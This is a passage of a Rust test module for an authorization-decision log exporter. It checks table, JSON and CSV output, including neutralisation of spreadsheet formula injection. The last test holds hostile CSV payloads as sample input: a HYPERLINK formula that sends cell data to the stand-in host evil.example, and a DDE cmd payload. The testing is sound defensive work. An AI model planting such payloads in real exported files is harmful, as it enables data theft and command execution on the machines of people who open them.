                line.chars()
                    .skip(lines[0][..at].chars().count())
                    .collect::<String>()
            })
        };
        let decision_at = column(lines[1], "DECISION").unwrap();
        assert!(decision_at.starts_with("deny*"), "{table}");
        assert!(
            column(lines[2], "DECISION").unwrap().starts_with("deny "),
            "{table}"
        );
        assert!(lines[1].starts_with("2026-11-22T19:20:00Z  …"), "{table}");
        assert!(lines[1].contains("xxx…"), "{table}");
        assert!(lines[1].contains("+2"), "{table}");
        assert!(lines[2].ends_with('-'), "{table}");
        assert_eq!(lines[3], "* shadow mode: recorded, not enforced");
        assert_eq!(
            render_table(&[]),
            format!(
                "{}\n(no matching decisions)\n",
                "TIME  REQUEST ID  VENDOR  CALLER  TARGETS  DECISION  POLICIES  STATUS"
            )
        );
    }

    #[test]
    fn json_rows_are_one_object_per_line() {
        let json = render_json(&[sample_row(), sample_row()]);
        let lines: Vec<&str> = json.lines().collect();
        assert_eq!(lines.len(), 2);
        let parsed: Value = serde_json::from_str(lines[0]).unwrap();
        assert_eq!(parsed["targets"][1], "Kore::User::alice@example.com");
        assert_eq!(parsed["status"], 200);
        assert_eq!(parsed["vendor_request_id"], "ds-77");
        assert_eq!(
            parsed["decision_id"],
            "019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709"
        );
    }

    #[test]
    fn csv_quotes_commas_quotes_and_newlines() {
        let mut row = sample_row();
        row.caller = "a,b".into();
        let csv = render_csv(&[row]);
        let (header, body) = csv.split_once("\r\n").unwrap();
        assert!(header.starts_with("time,request_id,vendor,caller,targets"));
        assert!(
            header.ends_with(",vendor_request_id,decision_id"),
            "{header}"
        );
        assert_eq!(
            body,
            "2026-11-22T19:20:00.123Z,019a3b4c5d6e7f8091a2b3c4d5e6f708,kore,\"a,b\",\
             \"Kore::User::u-1;Kore::User::alice@example.com;Kore::User::u-3;Kore::User::u-4\",\
             deny,shadow,forwarded,\"forbid-account-owner;allow-privacy-officer\",\
             \"owner, \"\"primary\"\"\nsee policy\",200,87,ds-77,\
             019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709\r\n"
        );
    }

    /// The cells of the one data row, read back as a CSV reader would.
    fn csv_cells(csv: &str) -> Vec<String> {
        let body = csv.split_once("\r\n").unwrap().1;
        let body = body.strip_suffix("\r\n").unwrap();
        let mut cells = vec![String::new()];
        let mut quoted = false;
        let mut chars = body.chars().peekable();
        while let Some(c) = chars.next() {
            match (c, quoted) {
                ('"', true) if chars.peek() == Some(&'"') => {
                    chars.next();
                    cells.last_mut().unwrap().push('"');
                }
                ('"', _) => quoted = !quoted,
                (',', false) => cells.push(String::new()),
                (c, _) => cells.last_mut().unwrap().push(c),
            }
        }
        cells
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
        let mut row = sample_row();
        row.caller = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into();
        row.targets = vec![
            "+Kore::User::1".into(),
            "-2+3".into(),
            "@SUM(A1:A9)".into(),
            "ok;=1+1".into(),
        ];
        row.reasons = vec!["\t=cmd|' /C calc'!A0".into(), "\r=1".into()];
        row.vendor_request_id = Some("-1".into());
        row.policies = vec!["a,=b".into()];
        let csv = render_csv(&[row]);
        let cells = csv_cells(&csv);
        assert_eq!(cells.len(), 14, "{csv}");
        assert_eq!(
            cells[3], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "{csv}"
        );
        assert_eq!(
            cells[4], "'+Kore::User::1;'-2+3;'@SUM(A1:A9);ok;=1+1",
            "list items are neutralised one by one"
        );
        assert_eq!(cells[8], "a,=b");
        assert_eq!(cells[9], "'\t=cmd|' /C calc'!A0;'\r=1");
        assert_eq!(cells[12], "'-1");
        // No cell starts with a formula character.
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
        // Ordinary cells are not altered.
        assert_eq!(cells[0], "2026-11-22T19:20:00.123Z");
        assert_eq!(cells[13], "019a3b4c-5d6e-7f80-91a2-b3c4d5e6f709");
    }
}
